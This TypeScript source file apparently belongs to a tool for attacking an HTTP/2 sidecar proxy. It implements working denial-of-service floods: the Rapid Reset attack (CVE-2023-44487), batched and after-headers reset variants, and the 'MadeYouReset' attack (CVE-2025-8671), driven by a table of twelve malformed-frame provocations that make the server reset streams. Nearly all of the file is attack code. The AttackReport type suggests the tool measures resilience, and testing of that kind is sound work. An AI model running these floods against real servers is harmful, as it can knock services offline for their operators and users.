// Attacks by resetting streams, or by making the sidecar reset them.
import type { AttackReport, AttackTarget } from "./attacker.ts";
import { END_STREAM, frame, get, headers, request, reset, TYPE, windowUpdate } from "./raw-frames.ts";
import { again, flood, type RawH2 } from "./raw-h2.ts";

/** CVE-2023-44487: a request and its cancellation in one write. */
export function rapidReset(target: AttackTarget): Promise<AttackReport> {
  return again(target, {}, (peer, _tally, isTimeUp) =>
    flood(peer, isTimeUp, (i) => Buffer.concat([get(i * 2 + 1), reset(i * 2 + 1)]), 20, 2),
  );
}

/** The same, fifty requests first and then their cancellations, so that all of them have begun upstream. */
export function batchedReset(target: AttackTarget): Promise<AttackReport> {
  return again(target, {}, async (peer, _tally, isTimeUp) => {
    for (let batch = 0; !peer.isOver && !isTimeUp(); batch++) {
      const ids = Array.from({ length: 50 }, (_, i) => (batch * 50 + i) * 2 + 1);
      peer.send(Buffer.concat(ids.map((id) => get(id, "/never"))), 50);
      await peer.drained();
      await new Promise((resolve) => setTimeout(resolve, 10));
      peer.send(Buffer.concat(ids.map((id) => reset(id))), 50);
      await peer.drained();
    }
  });
}

/** Cancels each answer when its head has come. */
export function resetAfterHead(target: AttackTarget): Promise<AttackReport> {
  return again(target, {}, async (peer, _tally, isTimeUp) => {
    let next = 1;
    const ask = (count: number): void => {
      if (isTimeUp()) return;
      const pieces: Buffer[] = [];
      for (let i = 0; i < count; i++, next += 2) pieces.push(get(next, "/head"));
      peer.send(Buffer.concat(pieces), count);
    };
    peer.onFrame = (type, _flags, id) => {
      if (type !== TYPE.HEADERS) return;
      peer.send(reset(id));
      ask(1);
    };
    ask(10);
    await peer.over(target.ms);
    peer.destroy();
  });
}

type Provoke = (id: number) => readonly Buffer[];

const post = (id: number): Buffer => headers(id, request("POST", "/never"), false);

const PROVOCATIONS: Readonly<Record<string, Provoke>> = {
  "a WINDOW_UPDATE of 0": (id) => [get(id, "/never"), windowUpdate(id, 0)],
  "a window above its maximum": (id) => [get(id, "/never"), windowUpdate(id, 0x7fffffff)],
  "DATA after END_STREAM": (id) => [get(id, "/never"), frame(TYPE.DATA, 0, id, Buffer.from("x"))],
  "HEADERS after END_STREAM": (id) => [get(id, "/never"), headers(id, [["x", "y"]], true)],
  "a stream that depends on itself": (id) => [get(id, "/never"), frame(TYPE.PRIORITY, 0, id, dependency(id))],
  "a PRIORITY that is cut": (id) => [get(id, "/never"), frame(TYPE.PRIORITY, 0, id, Buffer.alloc(4))],
  "trailers with a pseudo-header": (id) => [post(id), headers(id, [[":path", "/"]], true)],
  "trailers that do not end the stream": (id) => [post(id), headers(id, [["x", "y"]], false)],
  "a body longer than its length": (id) => [
    headers(id, request("POST", "/never", ["content-length", "1"]), false),
    frame(TYPE.DATA, END_STREAM, id, Buffer.from("xy")),
  ],
  "a body shorter than its length": (id) => [
    headers(id, request("POST", "/never", ["content-length", "9"]), false),
    frame(TYPE.DATA, END_STREAM, id, Buffer.from("xy")),
  ],
  "a request without a path": (id) => [headers(id, [[":method", "GET"]], true)],
  "a forbidden field": (id) => [headers(id, request("GET", "/never", ["connection", "close"]), true)],
};

export const provocations: readonly string[] = Object.keys(PROVOCATIONS);

function dependency(on: number): Buffer {
  const payload = Buffer.alloc(5);
  payload.writeUInt32BE(on);
  return payload;
}

/** CVE-2025-8671: the sidecar itself resets the stream, for the reason that `args.how` names. */
export function madeYouReset(target: AttackTarget): Promise<AttackReport> {
  const provoke = PROVOCATIONS[String(target.args["how"])];
  if (provoke === undefined) throw new Error(`no such provocation: ${target.args["how"]}`);
  return again(target, {}, (peer: RawH2, _tally, isTimeUp) =>
    flood(peer, isTimeUp, (i) => Buffer.concat(provoke(i * 2 + 1)), 20, 2),
  );
}
